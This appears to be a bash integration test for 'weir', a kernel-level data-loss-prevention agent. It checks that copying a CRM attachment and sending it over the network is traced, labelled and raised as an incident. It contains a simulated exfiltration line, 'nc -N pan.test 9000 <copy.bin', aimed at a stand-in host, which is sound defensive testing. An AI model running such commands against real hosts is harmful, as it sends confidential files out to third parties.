#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# An export lies on the disk while the machine is switched off. Afterwards nothing is left in the
# kernel, and who sends the file away is seen all the same; a file that is nobody's secret is not.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

case $(stat -f -c %T "$home") in
ext2/ext3 | xfs | btrfs) ;;
*)
	echo "1..0 # SKIP $home is on no file system whose files can be known again"
	is_demo=1 # has its plan said already
	exit 0
	;;
esac

crm_serves crm.test
store_serves pan.test 9000
pinned_before=$(ls /sys/fs/bpf/weir 2>/dev/null) # by a run of somebody else's on this machine
weir_watches --quiet
alice_does <<'END'
curl -sS -o scans.bin https://crm.test/attachment/600000/0
cp scans.bin copy.bin
rm scans.bin
echo 'an innocent file' >plain.txt
END
soon "the copy is known" \
	events_say "any(e['object']['name'].endswith('/copy.bin') and e['direction'] == 'out' for e in d if e['kind'] == 'flow')"
weir_stops
then_it "weir has stopped and left nothing in the kernel" \
	test "$(ls /sys/fs/bpf/weir 2>/dev/null)" = "$pinned_before"
then_it "the record of labelled files is there, for nobody else to read" \
	test "$(stat -c %a "$data/agent/labels")" = 600
then_it "and holds no name of a file" not grep -aq 'copy' "$data/agent/labels"

weir_watches --quiet
alice_does <<'END'
nc -N pan.test 9000 <copy.bin
nc -N pan.test 9000 <plain.txt
END
then_it "pan.test has both files" test "$(received_bytes pan.test)" -eq $((600000 + 17))
soon "the egress of the copy is exact to the byte, and nothing else is one" \
	events_say "sum(e['bytes'] for e in d if e['kind'] == 'egress') == 600000"
soon "and its labels are the CRM's" \
	events_say "{l for e in d if e['kind'] == 'egress' for l in e['labels']} == {l for e in d if e['kind'] == 'crm_access' for l in e['labels']}"
soon "it is an incident" incidents_say "len(d) == 1 and d[0]['bytes_out'] == 600000"
alice_does <<'END'
rm copy.bin plain.txt
END
soon "that the copy is removed is seen, by its name" \
	events_say "[e['object']['name'][-9:] for e in d if e['kind'] == 'file_unlink'] == ['scans.bin', '/copy.bin']"
then_it "nothing was lost" events_say "not any(e['kind'] == 'loss' for e in d)"

weir_stops
then_it "weir has stopped cleanly" test "$weir_status" -eq 0
